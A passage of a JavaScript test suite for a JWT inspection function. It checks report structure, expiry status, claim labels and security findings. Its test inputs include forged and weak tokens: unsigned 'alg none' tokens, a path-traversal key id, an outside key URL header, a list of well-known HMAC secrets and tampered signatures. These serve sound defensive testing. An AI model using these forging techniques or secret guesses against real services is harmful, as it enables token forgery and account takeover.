// inspect() (issue 4): the report's shape and types for every kind of input, sizes, algorithm
// families, status and claims; every finding code of the contract's table on a token built for
// it (with its severity) and a near miss where it must not fire; never a throw for any string
// (seeded random and mutated inputs, lone surrogates, 1 MiB limits, Bearer variants).

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { m, s, jose, NOW, ALGS, ALG_NAMES, claims, at, b64u, fromB64u, fixtures, hmacSecret, craft, throwsType } from '../lib/helpers.mjs';

/** The contract's finding table: code → default severity. */
const TABLE = {
  malformed: 'high',
  'alg-none': 'critical',
  'alg-missing': 'high',
  'alg-unknown': 'high',
  'exp-missing': 'medium',
  expired: 'medium',
  'not-yet-valid': 'low',
  'iat-future': 'low',
  'claim-type': 'medium',
  'long-lifetime': 'low',
  'sensitive-data': 'high',
  'weak-secret': 'critical',
  'header-jwk': 'high',
  'header-url': 'high',
  'kid-suspicious': 'medium',
  crit: 'info',
  'symmetric-alg': 'info',
  'no-signature': 'critical',
  'non-canonical': 'low',
  'duplicate-key': 'medium',
  'large-token': 'info',
  jwe: 'info',
};
const SEVERITIES = ['critical', 'high', 'medium', 'low', 'info'];
const KINDS = ['JWS', 'JWE', 'unsecured', 'invalid'];
const FAMILIES = ['HMAC', 'RSA', 'RSA-PSS', 'ECDSA', 'EdDSA', 'none', 'unknown'];
const STATES = ['active', 'expired', 'not_yet_valid', 'no_expiry', 'unknown'];
const REPORT_MEMBERS = ['kind', 'header', 'payload', 'segments', 'algorithm', 'claims', 'status', 'findings', 'size'];
const OPTIONAL_MEMBERS = ['secretVerified', 'weakSecret'];
const ISO_UTC = /^(\d{4}|[+-]\d{6})-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;
const MiB = 1048576;

const isPlainObject = (x) => x !== null && typeof x === 'object' && !Array.isArray(x) && Object.getPrototypeOf(x) === Object.prototype;

/** Asserts that `r` has the contract's shape and types, and the invariants between its members. */
function checkReport(r, what = 'report') {
  const where = (msg) => `${what}: ${msg}`;
  assert.ok(isPlainObject(r), where('not a plain object'));
  for (const k of REPORT_MEMBERS) assert.ok(k in r, where(`no "${k}"`));
  for (const k of Object.keys(r)) assert.ok(REPORT_MEMBERS.includes(k) || OPTIONAL_MEMBERS.includes(k), where(`unexpected member "${k}"`));
  assert.ok(KINDS.includes(r.kind), where(`kind ${r.kind}`));
  assert.ok(r.header === null || isPlainObject(r.header), where('header'));
  assert.ok(r.payload === null || isPlainObject(r.payload), where('payload'));
  assert.ok(Array.isArray(r.segments) && r.segments.every((s) => typeof s === 'string'), where('segments'));
  if (r.algorithm !== null) {
    assert.ok(isPlainObject(r.algorithm), where('algorithm'));
    assert.deepEqual(Object.keys(r.algorithm).sort(), ['description', 'family', 'name'], where('algorithm members'));
    assert.equal(typeof r.algorithm.name, 'string', where('algorithm.name'));
    assert.ok(FAMILIES.includes(r.algorithm.family), where(`algorithm.family ${r.algorithm.family}`));
    assert.equal(typeof r.algorithm.description, 'string', where('algorithm.description'));
    assert.ok(r.algorithm.description.length > 0, where('empty algorithm.description'));
  }
  assert.ok(Array.isArray(r.claims), where('claims'));
  for (const c of r.claims) {
    assert.ok(isPlainObject(c), where('claim'));
    assert.equal(typeof c.name, 'string', where('claim.name'));
    assert.ok('value' in c, where(`claim ${c.name} has no value`));
    assert.equal(typeof c.label, 'string', where('claim.label'));
    assert.ok(c.label.length > 0, where('empty claim.label'));
    assert.equal(typeof c.description, 'string', where('claim.description'));
    assert.ok(c.description.length > 0, where('empty claim.description'));
    assert.equal(typeof c.registered, 'boolean', where('claim.registered'));
    if ('time' in c) assert.match(c.time, ISO_UTC, where(`claim ${c.name} time`));
    if ('relative' in c) assert.equal(typeof c.relative, 'string', where('claim.relative'));
    for (const k of Object.keys(c)) assert.ok(['name', 'value', 'label', 'description', 'registered', 'time', 'relative'].includes(k), where(`claim member ${k}`));
  }
  assert.ok(isPlainObject(r.status), where('status'));
  assert.ok(STATES.includes(r.status.state), where(`status.state ${r.status.state}`));
  if ('secondsLeft' in r.status) assert.ok(typeof r.status.secondsLeft === 'number' && !Number.isNaN(r.status.secondsLeft), where(`secondsLeft ${r.status.secondsLeft}`));
  for (const k of Object.keys(r.status)) assert.ok(['state', 'secondsLeft'].includes(k), where(`status member ${k}`));
  assert.ok(Array.isArray(r.findings), where('findings'));
  let rank = 0;
  for (const f of r.findings) {
    assert.ok(isPlainObject(f), where('finding'));
    assert.ok(f.code in TABLE, where(`finding code ${f.code}`));
    assert.equal(f.severity, TABLE[f.code], where(`severity of ${f.code}`));
    assert.ok(SEVERITIES.indexOf(f.severity) >= rank, where(`findings not sorted most severe first: ${r.findings.map((x) => x.severity).join(', ')}`));
    rank = SEVERITIES.indexOf(f.severity);
    assert.equal(typeof f.title, 'string', where('finding.title'));
    assert.ok(f.title.length > 0, where('empty finding.title'));
    assert.equal(typeof f.detail, 'string', where('finding.detail'));
    assert.ok(f.detail.length > 0, where('empty finding.detail'));
    if ('location' in f) assert.equal(typeof f.location, 'string', where('finding.location'));
    for (const k of Object.keys(f)) assert.ok(['code', 'severity', 'title', 'detail', 'location'].includes(k), where(`finding member ${k}`));
  }
  assert.ok(isPlainObject(r.size), where('size'));
  assert.deepEqual(Object.keys(r.size).sort(), ['bytes', 'header', 'payload', 'signature'], where('size members'));
  for (const k of ['bytes', 'header', 'payload', 'signature']) assert.ok(Number.isSafeInteger(r.size[k]) && r.size[k] >= 0, where(`size.${k}`));
  if ('secretVerified' in r) assert.equal(typeof r.secretVerified, 'boolean', where('secretVerified'));
  if ('weakSecret' in r) assert.equal(typeof r.weakSecret, 'string', where('weakSecret'));
  // invariants
  const codes = r.findings.map((f) => f.code);
  if (r.kind === 'invalid') {
    assert.ok(codes.includes('malformed'), where('an invalid token without a malformed finding'));
    // the payload of an invalid token is shown only when the header alone was unreadable
    if (r.payload !== null) assert.equal(r.header, null, where('invalid with a header and a payload'));
  }
  if (r.kind === 'unsecured') assert.ok(codes.includes('alg-none'), where('unsecured without alg-none'));
  if (r.kind === 'JWE') {
    assert.equal(r.payload, null, where('JWE with a payload'));
    assert.ok(codes.includes('jwe'), where('JWE without a jwe finding'));
  }
  if (r.payload === null) {
    assert.equal(r.status.state, 'unknown', where('no payload but a status'));
    assert.deepEqual(r.claims, [], where('no payload but claims'));
  }
  if (r.kind !== 'invalid') assert.ok(r.header !== null, where(`${r.kind} without a header`));
}

/** inspect at the fixed time, with the shape checked. */
function report(token, options = {}) {
  const r = m.inspect(token, { now: NOW, ...options });
  checkReport(r, JSON.stringify(token.length > 120 ? `${token.slice(0, 120)}…` : token));
  return r;
}
const codesOf = (r) => r.findings.map((f) => f.code);

/** Asserts `code` is reported for `token` (with the table's severity) and returns that finding. */
function fires(token, code, options) {
  const r = report(token, options);
  const f = r.findings.find((x) => x.code === code);
  assert.ok(f, `expected "${code}" for ${token.slice(0, 100)}; got ${JSON.stringify(codesOf(r))}`);
  assert.equal(f.severity, TABLE[code]);
  return f;
}
/** Asserts `code` is not reported for `token`; returns the report. */
function quiet(token, code, options) {
  const r = report(token, options);
  assert.ok(!codesOf(r).includes(code), `"${code}" must not fire for ${token.slice(0, 100)}: ${JSON.stringify(r.findings.find((x) => x.code === code))}`);
  return r;
}

// Token makers. ES256 tokens carry no HMAC (no weak-secret scan) and, with claims(), no finding.
const es = (payload = claims(), header = {}) => craft({ alg: 'ES256', typ: 'JWT', ...header }, payload);
const hs = (payload = claims(), header = {}, key = hmacSecret) => craft({ alg: 'HS256', typ: 'JWT', ...header }, payload, { key });
/** A token from raw header and payload texts (or objects) and a signature segment. */
const raw = (header, payload, signature = b64u(crypto.randomBytes(64))) => `${b64u(typeof header === 'string' ? header : JSON.stringify(header))}.${b64u(typeof payload === 'string' ? payload : JSON.stringify(payload))}.${signature}`;
const JWT_IO = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';

/** An ES256-headed token of exactly `total` bytes (payload padding, then a signature of 'A's). */
function sizedToken(total, extraClaims = {}) {
  const h = b64u(JSON.stringify({ alg: 'ES256', typ: 'JWT' }));
  const body = (pad) => b64u(JSON.stringify({ ...claims(extraClaims), pad: 'x'.repeat(pad) }));
  let pad = Math.max(0, Math.floor(((total - h.length - 2 - 90) * 3) / 4) - 80);
  for (;;) {
    const p = body(pad);
    const s = total - h.length - p.length - 2;
    if (s >= 0 && s % 4 !== 1) {
      const token = `${h}.${p}.${'A'.repeat(s)}`;
      assert.equal(token.length, total);
      return token;
    }
    assert.ok(pad > 0, `cannot build a token of ${total} bytes`);
    pad--;
  }
}

/** Seeded PRNG (mulberry32): the same inputs on every run. */
function prng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// JWEs made by jose (asynchronous), up front.
const jweDir = await new jose.CompactEncrypt(new TextEncoder().encode(JSON.stringify(claims()))).setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' }).encrypt(crypto.randomBytes(32));
const jweRsa = await new jose.EncryptJWT(claims()).setProtectedHeader({ alg: 'RSA-OAEP-256', enc: 'A128CBC-HS256', kid: 'enc-1' }).encrypt(await jose.importJWK(fixtures.rsa.publicJwk, 'RSA-OAEP-256'));

// ---------------------------------------------------------------------------------------------

describe('report shape and types', () => {
  test('JWS', () => {
    const token = hs(claims({ iss: 'https://issuer.example', aud: 'api', role: 'admin' }), { kid: 'k1' });
    const r = report(token);
    assert.equal(r.kind, 'JWS');
    assert.deepEqual(r.header, { alg: 'HS256', typ: 'JWT', kid: 'k1' });
    assert.deepEqual(r.payload, claims({ iss: 'https://issuer.example', aud: 'api', role: 'admin' }));
    assert.deepEqual(r.segments, token.split('.'));
    assert.deepEqual(r.algorithm.name, 'HS256');
    assert.equal(r.algorithm.family, 'HMAC');
    assert.deepEqual(r.claims.map((c) => c.name), ['sub', 'iat', 'exp', 'iss', 'aud', 'role']);
    assert.deepEqual(r.claims.map((c) => c.value), ['user-42', NOW - 60, NOW + 3600, 'https://issuer.example', 'api', 'admin']);
    assert.deepEqual(r.status, { state: 'active', secondsLeft: 3600 });
    assert.deepEqual(codesOf(r), ['symmetric-alg']);
    const [h, p, s] = token.split('.');
    assert.deepEqual(r.size, { bytes: token.length, header: h.length, payload: p.length, signature: s.length });
    assert.equal('secretVerified' in r, false);
    assert.equal('weakSecret' in r, false);
  });

  test('JWS with no finding at all', () => {
    const r = report(es());
    assert.deepEqual(r.findings, []);
    assert.equal(r.algorithm.family, 'ECDSA');
  });

  for (const [label, token] of [['JWE (dir, A256GCM)', jweDir], ['JWE (RSA-OAEP-256, A128CBC-HS256)', jweRsa]]) {
    test(`${label}: 5 segments, header shown, payload null, finding jwe`, () => {
      const r = report(token);
      const segments = token.split('.');
      assert.equal(segments.length, 5);
      assert.equal(r.kind, 'JWE');
      assert.deepEqual(r.header, JSON.parse(fromB64u(segments[0]).toString()));
      assert.equal(r.payload, null);
      assert.deepEqual(r.segments, segments);
      assert.deepEqual(r.claims, []);
      assert.equal(r.status.state, 'unknown');
      assert.equal('secondsLeft' in r.status, false);
      assert.deepEqual(codesOf(r), ['jwe']);
      assert.equal(r.size.bytes, token.length);
      assert.equal(r.size.header, segments[0].length);
      assert.ok(r.algorithm === null || r.algorithm.family === 'unknown', 'a JWE alg is not a JWS algorithm');
    });
  }

  test('unsecured', () => {
    const token = craft({ alg: 'none' }, claims());
    const r = report(token);
    assert.equal(r.kind, 'unsecured');
    assert.deepEqual(r.header, { alg: 'none' });
    assert.deepEqual(r.payload, claims());
    assert.deepEqual(r.segments, [...token.split('.').slice(0, 2), '']);
    assert.deepEqual(r.algorithm && r.algorithm.family, 'none');
    assert.deepEqual(codesOf(r), ['alg-none']);
    assert.equal(r.size.signature, 0);
  });

  for (const input of ['', '   ', 'abc', 'a.b', 'not a token at all', '{"alg":"HS256"}', '!!!.@@@.###', 'a.b.c.d', 'a.b.c.d.e.f']) {
    test(`invalid: ${JSON.stringify(input)}`, () => {
      const r = report(input);
      assert.equal(r.kind, 'invalid');
      assert.equal(r.header, null);
      assert.equal(r.payload, null);
      assert.equal(r.algorithm, null);
      assert.deepEqual(r.claims, []);
      assert.deepEqual(r.status, { state: 'unknown' });
      assert.ok(codesOf(r).includes('malformed'));
      assert.equal(r.size.bytes, Buffer.byteLength(input.trim()));
    });
  }

  test('findings are sorted most severe first', () => {
    // critical (no-signature), high (header-url, sensitive-data), medium (expired, kid-suspicious), low (iat-future), info (crit)
    const token = `${b64u(JSON.stringify({ alg: 'ES256', crit: ['x'], x: 1, kid: '../k', jku: 'https://x.example' }))}.${b64u(JSON.stringify({ exp: NOW - 10, iat: NOW + 600, password: 'hunter2' }))}.`;
    const r = report(token);
    assert.deepEqual(r.findings.map((f) => f.severity), ['critical', 'high', 'high', 'medium', 'medium', 'low', 'info']);
    assert.deepEqual(new Set(codesOf(r)), new Set(['no-signature', 'header-url', 'sensitive-data', 'expired', 'kid-suspicious', 'iat-future', 'crit']));
  });

  test('inspect of a token from sign() of jwtlens/sign shows what was signed', () => {
    for (const alg of ['EdDSA', 'Ed25519']) {
      const token = s.sign({ sub: 's', roles: ['a', 'b'] }, fixtures.ed25519.privateJwk, { alg, issuedAt: NOW, expiresIn: '15m', header: { kid: 'ed-1' } });
      const r = report(token);
      assert.deepEqual(r.header, { alg, typ: 'JWT', kid: 'ed-1' });
      assert.deepEqual(r.payload, { sub: 's', roles: ['a', 'b'], iat: NOW, exp: NOW + 900 });
      assert.deepEqual(r.status, { state: 'active', secondsLeft: 900 });
      assert.deepEqual(r.findings, []);
      assert.deepEqual({ name: r.algorithm.name, family: r.algorithm.family }, { name: alg, family: 'EdDSA' });
    }
  });

  test('without options.now the clock is read in whole seconds, as verify() reads it', () => {
    const s0 = Math.floor(Date.now() / 1000);
    const token = craft({ alg: 'HS256' }, { sub: 'x', exp: s0 + 3600 });
    const r = m.inspect(token);
    const s1 = Math.floor(Date.now() / 1000);
    assert.ok(Number.isInteger(r.status.secondsLeft), String(r.status.secondsLeft));
    assert.ok(r.status.secondsLeft >= s0 + 3600 - s1 && r.status.secondsLeft <= 3600, String(r.status.secondsLeft));
  });

  test('a token that is not a string is a TypeError; so are bad options', () => {
    for (const t of [undefined, null, 42, true, {}, [], Buffer.from(JWT_IO), new String(JWT_IO), Symbol('t'), 1n]) throwsType(() => m.inspect(t), /token/);
    for (const options of ['x', 42, []]) throwsType(() => m.inspect(JWT_IO, options), /options/);
    // null means no options, as undefined does
    assert.deepEqual(m.inspect(JWT_IO, null).findings, m.inspect(JWT_IO).findings);
    for (const now of ['1700000000', NaN, Infinity, null, new Date()]) throwsType(() => m.inspect(JWT_IO, { now }), /now/);
    for (const secret of [42, null, {}, [1, 2], new ArrayBuffer(4), new Uint16Array(2)]) throwsType(() => m.inspect(JWT_IO, { secret }), /secret/);
  });
});

describe('size', () => {
  const token = es();
  const [h, p, s] = token.split('.');
  const want = { bytes: token.length, header: h.length, payload: p.length, signature: s.length };

  for (const input of [token, ` ${token} `, `\n\t${token}\r\n`, `Bearer ${token}`, `bearer ${token}`, `BEARER ${token}`, `Bearer    ${token}`, `  Bearer ${token}\n`, `bEaReR ${token}  `]) {
    test(`${JSON.stringify(input.slice(0, 12))}…: the same report as the bare token`, () => {
      const r = report(input);
      assert.deepEqual(r.size, want);
      assert.deepEqual(r, report(token));
    });
  }

  test('the prefix needs a space; other text is part of the token', () => {
    for (const input of [`Bearer${token}`, `Bearer\t${token}`, `Token ${token}`, `Basic ${token}`]) {
      const r = report(input);
      assert.notDeepEqual(r, report(token));
      assert.equal(r.size.bytes, Buffer.byteLength(input.trim()));
    }
  });

  test('bytes is the UTF-8 length, not the UTF-16 length', () => {
    for (const input of ['é.ü.🚀', ' Bearer é.ü.🚀 ', '€€€', '🚀.🚀.🚀.🚀.🚀', 'ключ.ключ.ключ']) {
      const body = input.trim().replace(/^bearer +/i, '');
      assert.equal(report(input).size.bytes, Buffer.byteLength(body));
    }
    // a lone surrogate counts as U+FFFD (3 bytes), as TextEncoder writes it
    assert.equal(report('\ud800.a.b').size.bytes, 3 + 4);
    assert.equal(report('a.\udc00\ud800.b').size.bytes, 4 + 6);
  });

  test('JWE: bytes and segment lengths', () => {
    const r = report(jweRsa);
    const seg = jweRsa.split('.');
    assert.equal(r.size.bytes, jweRsa.length);
    assert.equal(r.size.header, seg[0].length);
    assert.ok(r.size.payload > 0 && r.size.signature > 0);
  });
});

describe('algorithm', () => {
  for (const alg of ALG_NAMES) {
    test(`${alg}: family ${ALGS[alg].family}`, () => {
      const r = report(craft({ alg, typ: 'JWT' }, claims()));
      assert.equal(r.kind, 'JWS');
      assert.equal(r.algorithm.name, alg);
      assert.equal(r.algorithm.family, ALGS[alg].family);
      assert.ok(r.algorithm.description.length > 5);
      assert.ok(!codesOf(r).includes('alg-unknown'));
    });
  }

  test('none and unknown algorithms', () => {
    assert.equal(report(craft({ alg: 'NONE' }, claims(), { signature: '' })).algorithm.family, 'none');
    for (const alg of ['ES256K', 'Ed448', 'ed25519', 'FOO', 'hs256', 'RS1']) {
      const r = report(craft({ alg }, claims(), { signWith: 'ES256' }));
      assert.equal(r.algorithm.name, alg);
      assert.equal(r.algorithm.family, 'unknown');
    }
  });
});

describe('status', () => {
  const at_ = (payload, now = NOW) => report(es(payload), { now }).status;

  test('active with secondsLeft', () => {
    assert.deepEqual(at_({ exp: NOW + 100 }), { state: 'active', secondsLeft: 100 });
    assert.deepEqual(at_({ exp: NOW + 100, nbf: NOW - 5 }), { state: 'active', secondsLeft: 100 });
    assert.deepEqual(at_({ exp: NOW + 100 }, NOW + 99), { state: 'active', secondsLeft: 1 });
  });

  test('expired with a negative secondsLeft', () => {
    assert.deepEqual(at_({ exp: NOW - 100 }), { state: 'expired', secondsLeft: -100 });
    assert.deepEqual(at_({ exp: NOW + 100 }, NOW + 200), { state: 'expired', secondsLeft: -100 });
  });

  test('not_yet_valid', () => {
    assert.deepEqual(at_({ exp: NOW + 100, nbf: NOW + 50 }), { state: 'not_yet_valid', secondsLeft: 100 });
  });

  test('expired wins over not_yet_valid', () => {
    assert.equal(at_({ exp: NOW - 1, nbf: NOW + 50 }).state, 'expired');
  });

  test('no_expiry without exp', () => {
    assert.deepEqual(at_({ sub: 's', iat: NOW }), { state: 'no_expiry' });
  });

  test('unknown when the payload cannot be read', () => {
    assert.deepEqual(report(raw({ alg: 'ES256' }, '[1,2]')).status, { state: 'unknown' });
    assert.deepEqual(report(raw({ alg: 'ES256' }, '{"exp":')).status, { state: 'unknown' });
    assert.deepEqual(report(`${b64u('{"alg":"ES256"}')}.***.AAAA`).status, { state: 'unknown' });
    assert.deepEqual(report(jweDir).status, { state: 'unknown' });
  });

  test('agrees with verify at the boundaries', () => {
    const key = fixtures.p256.spki;
    for (const exp of [NOW - 1, NOW, NOW + 1]) {
      const token = es({ exp });
      let verified = true;
      try {
        m.verify(token, key, at('ES256'));
      } catch {
        verified = false;
      }
      assert.equal(report(token).status.state === 'active', verified, `exp = now ${exp - NOW >= 0 ? '+' : ''}${exp - NOW}`);
    }
  });

  test('extreme exp and options.now: secondsLeft stays a number', () => {
    for (const [exp, now] of [[1e308, -1e308], [-1e308, 1e308], [Number.MAX_VALUE, -Number.MAX_VALUE]]) {
      const r = report(raw({ alg: 'ES256' }, { exp }), { now });
      assert.equal(r.status.state, exp > now ? 'active' : 'expired');
      assert.equal(typeof r.status.secondsLeft, 'number', `exp ${exp}, now ${now}: secondsLeft ${r.status.secondsLeft}`);
    }
  });

  test('without options.now, the clock', () => {
    const now = Math.floor(Date.now() / 1000);
    const r = m.inspect(es({ exp: now + 3600, iat: now }));
    checkReport(r);
    assert.equal(r.status.state, 'active');
    assert.ok(r.status.secondsLeft <= 3600 && r.status.secondsLeft >= 3590, `secondsLeft ${r.status.secondsLeft}`);
    assert.equal(m.inspect(es({ exp: now - 10 })).status.state, 'expired');
  });
});

describe('claims', () => {
  const payload = { iss: 'https://issuer.example', sub: 'user-42', aud: ['api'], exp: NOW + 14 * 60 + 30, nbf: NOW - 3 * 86400, iat: NOW - 3 * 86400, jti: 'id-1', tenant_colour: 'teal' };
  const r = report(es(payload));
  const byName = Object.fromEntries(r.claims.map((c) => [c.name, c]));

  test('one entry per member, in payload order, with its value', () => {
    assert.deepEqual(r.claims.map((c) => c.name), Object.keys(payload));
    for (const c of r.claims) assert.deepEqual(c.value, payload[c.name]);
  });

  test('registered claims have a label and a description; custom ones are marked', () => {
    for (const name of ['iss', 'sub', 'aud', 'exp', 'nbf', 'iat', 'jti']) {
      assert.equal(byName[name].registered, true, name);
      assert.ok(byName[name].label.length > 1);
      assert.ok(byName[name].description.length > 10);
    }
    assert.equal(byName.exp.label, 'Expiration Time');
    assert.equal(byName.tenant_colour.registered, false);
    assert.notEqual(byName.tenant_colour.label, byName.sub.label);
    // OIDC claims are well known
    const oidc = report(es(claims({ email: 'a@b.example', nonce: 'n', auth_time: NOW - 100 })));
    for (const c of oidc.claims) assert.equal(c.registered, true, c.name);
  });

  test('time (ISO 8601 UTC, as Date#toISOString) and relative for exp, nbf, iat', () => {
    for (const name of ['exp', 'nbf', 'iat']) {
      assert.equal(byName[name].time, new Date(payload[name] * 1000).toISOString(), name);
      assert.equal(typeof byName[name].relative, 'string');
    }
    assert.equal(byName.exp.relative, 'in 14 minutes');
    assert.equal(byName.iat.relative, '3 days ago');
    for (const name of ['iss', 'sub', 'aud', 'jti', 'tenant_colour']) {
      assert.equal('time' in byName[name], false, name);
      assert.equal('relative' in byName[name], false, name);
    }
  });

  test('time for fractional, old and far-future NumericDates', () => {
    for (const t of [0, 1, NOW + 0.5, 951782400, 4102444800, 253402300799, -1]) {
      const c = report(es({ exp: t })).claims.find((x) => x.name === 'exp');
      assert.equal(c.time, new Date(t * 1000).toISOString(), String(t));
      assert.match(c.relative, /^(in \d+ \w+|\d+ \w+ ago|just now)$/);
    }
  });

  test('no time for a NumericDate that is not a number', () => {
    const c = report(es({ exp: 'tomorrow' })).claims.find((x) => x.name === 'exp');
    assert.equal('time' in c, false);
  });
});

// ---------------------------------------------------------------------------------------------

describe('findings', () => {
  describe('weak-secret', () => {
    test('the jwt.io demo token: signed with "your-256-bit-secret"', () => {
      const r = report(JWT_IO);
      const f = r.findings.find((x) => x.code === 'weak-secret');
      assert.ok(f, JSON.stringify(codesOf(r)));
      assert.equal(f.severity, 'critical');
      assert.equal(r.weakSecret, 'your-256-bit-secret');
      assert.match(f.detail, /your-256-bit-secret/);
      assert.equal(r.findings[0].code, 'weak-secret');
    });

    for (const alg of ['HS256', 'HS384', 'HS512']) {
      test(`${alg} signed with well-known secrets`, () => {
        for (const secret of ['secret', 'your-256-bit-secret', 'changeme', 'shhhhh']) {
          const token = s.sign(claims(), secret, { alg, allowShortSecrets: true });
          const r = report(token);
          assert.ok(codesOf(r).includes('weak-secret'), `${alg} "${secret}": ${JSON.stringify(codesOf(r))}`);
          assert.equal(r.weakSecret, secret);
        }
      });
    }

    test('near miss: a strong secret, or a weak secret with a tampered signature', () => {
      for (const alg of ['HS256', 'HS384', 'HS512']) {
        const r = quiet(s.sign(claims(), s.generateSecret(alg), { alg }), 'weak-secret');
        assert.equal('weakSecret' in r, false);
      }
      const [h, p] = JWT_IO.split('.');
      const tampered = `${h}.${p}.${b64u(crypto.randomBytes(32))}`;
      assert.equal('weakSecret' in quiet(tampered, 'weak-secret'), false);
      // a built-in weak secret with a different payload: the signature no longer matches
      quiet(`${h}.${b64u(JSON.stringify({ sub: 'admin' }))}.${JWT_IO.split('.')[2]}`, 'weak-secret');
    });

    test('options.secret shorter than the hash that verifies the token', () => {
      for (const [alg, secret] of [['HS256', 'k9#Qz!short-secret'], ['HS384', 'q'.repeat(47)], ['HS512', 'z'.repeat(40)]]) {
        const token = s.sign(claims(), secret, { alg, allowShortSecrets: true });
        quiet(token, 'weak-secret'); // not in the built-in list
        for (const given of [secret, new TextEncoder().encode(secret)]) {
          const r = report(token, { secret: given });
          assert.equal(r.secretVerified, true);
          const f = r.findings.find((x) => x.code === 'weak-secret');
          assert.ok(f, `${alg}: ${JSON.stringify(codesOf(r))}`);
          assert.equal(f.severity, 'critical');
          assert.match(f.detail, new RegExp(`${Buffer.byteLength(secret)} bytes`));
        }
      }
    });

    test('near miss: options.secret as long as the hash; a short secret that does not verify', () => {
      for (const alg of ['HS256', 'HS384', 'HS512']) {
        const secret = s.generateSecret(alg);
        const token = s.sign(claims(), secret, { alg });
        assert.equal(quiet(token, 'weak-secret', { secret }).secretVerified, true);
        assert.equal(quiet(token, 'weak-secret', { secret: 'short' }).secretVerified, false);
      }
    });
  });

  describe('secretVerified', () => {
    test('true with the signing secret, false with another; absent without options.secret or on non-HMAC tokens', () => {
      const token = hs();
      assert.equal(report(token, { secret: hmacSecret }).secretVerified, true);
      assert.equal(report(token, { secret: new Uint8Array(hmacSecret) }).secretVerified, true);
      assert.equal(report(token, { secret: fromB64u(fixtures.secrets.hmacOther) }).secretVerified, false);
      assert.equal(report(token, { secret: '' }).secretVerified, false);
      assert.equal('secretVerified' in report(token), false);
      const text = fixtures.secrets.hmacText;
      assert.equal(report(hs(claims(), {}, Buffer.from(text)), { secret: text }).secretVerified, true);
      for (const alg of ['HS384', 'HS512']) {
        const t = craft({ alg }, claims());
        assert.equal(report(t, { secret: hmacSecret }).secretVerified, true);
        assert.equal(report(t, { secret: hmacSecret.subarray(1) }).secretVerified, false);
      }
      // does not change the analysis otherwise
      const withSecret = report(token, { secret: hmacSecret });
      delete withSecret.secretVerified;
      assert.deepEqual(withSecret, report(token));
      assert.equal('secretVerified' in report(es(), { secret: hmacSecret }), false);
    });
  });

  describe('sensitive-data', () => {
    const cases = [
      ['password', { password: 'hunter2' }, 'payload.password'],
      ['a nested password hash', { user: { password_hash: '$2b$10$abcdefghijklmnopqrstuv' } }, 'payload.user.password_hash'],
      ['a client secret', { client_secret: 'abc123' }, 'payload.client_secret'],
      ['a PEM private key', { key: fixtures.p256.pkcs8 }, 'payload.key'],
      ['an RSA PEM private key in an array', { keys: ['x', fixtures.rsa.pkcs1Private] }, 'payload.keys[1]'],
      ['a Luhn-valid card number', { card: '4111 1111 1111 1111' }, 'payload.card'],
      ['a Luhn-valid card number without spaces', { ref: '5500000000000004' }, 'payload.ref'],
      ['a US SSN', { id: '123-45-6789' }, 'payload.id'],
      ['an AWS access key', { k: 'AKIAIOSFODNN7EXAMPLE' }, 'payload.k'],
    ];
    for (const [what, extra, location] of cases) {
      test(what, () => {
        const f = fires(es(claims(extra)), 'sensitive-data');
        assert.equal(f.location, location);
        assert.match(f.detail, new RegExp(location.replace(/[.[\]$]/g, '\\$&')));
      });
    }

    test('near misses: an email, a Luhn-invalid number, empty or boolean password members, public keys', () => {
      const near = [
        { email: 'ann@example.com', email_verified: true, name: 'Ann' },
        { card: '4111 1111 1111 1112' },
        { n: '1234567812345670' }, // Luhn-valid but no card issuer
        { password: '' },
        { password: null },
        { has_password: true },
        { passenger: 'Bob', secretary: 'Carol', compass: 'N' },
        { key: fixtures.p256.spki },
        { phone_number: '+1 202 555 0143' },
      ];
      for (const extra of near) quiet(es(claims(extra)), 'sensitive-data');
    });
  });

  describe('non-canonical', () => {
    const [h, p, s] = es().split('.');
    const b64std = (x) => Buffer.from(x).toString('base64');

    test('padding', () => {
      const header = JSON.stringify({ alg: 'ES256', typ: 'JWT', x: 12 });
      assert.ok(b64std(header).endsWith('='), 'the header needs padding');
      const padded = `${b64std(header).replace(/\+/g, '-').replace(/\//g, '_')}.${p}.${s}`;
      const f = fires(padded, 'non-canonical');
      assert.match(f.detail, /header/);
      assert.match(f.detail, /padding|=/);
      assert.deepEqual(report(padded).header, JSON.parse(header), 'still decoded');
    });

    test('+ and /', () => {
      let payload;
      for (let i = 0; ; i++) {
        payload = JSON.stringify({ ...claims(), n: `~~${i}?>` });
        if (b64std(payload).includes('+') && b64std(payload).includes('/')) break;
      }
      const token = `${h}.${b64std(payload).replace(/=+$/, '')}.${s}`;
      const f = fires(token, 'non-canonical');
      assert.match(f.detail, /payload/);
      assert.deepEqual(report(token).payload, JSON.parse(payload), 'still decoded');
    });

    test('whitespace inside a segment', () => {
      const token = `${h}.${p.slice(0, 20)}\n${p.slice(20)}.${s}`;
      fires(token, 'non-canonical');
      assert.deepEqual(report(token).payload, claims());
    });

    test('non-zero trailing bits', () => {
      const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
      const withBits = (seg) => {
        const unused = seg.length % 4 === 2 ? 0b1111 : 0b11;
        assert.notEqual(seg.length % 4, 0, 'the segment needs a partial last group');
        return seg.slice(0, -1) + ALPHABET[ALPHABET.indexOf(seg.at(-1)) | unused];
      };
      const hmacToken = hs();
      const [hh, hp, hsig] = hmacToken.split('.');
      assert.equal(hsig.length % 4, 3);
      const f = fires(`${hh}.${hp}.${withBits(hsig)}`, 'non-canonical');
      assert.match(f.detail, /signature/);
      assert.match(f.detail, /trailing/);
      // the same bytes: the signature still verifies with the secret
      assert.equal(report(`${hh}.${hp}.${withBits(hsig)}`, { secret: hmacSecret }).secretVerified, true);
    });

    test('near miss: canonical segments, and whitespace only around the token', () => {
      quiet(es(), 'non-canonical');
      quiet(`\n  ${es()}  \n`, 'non-canonical');
      quiet(hs(), 'non-canonical');
    });
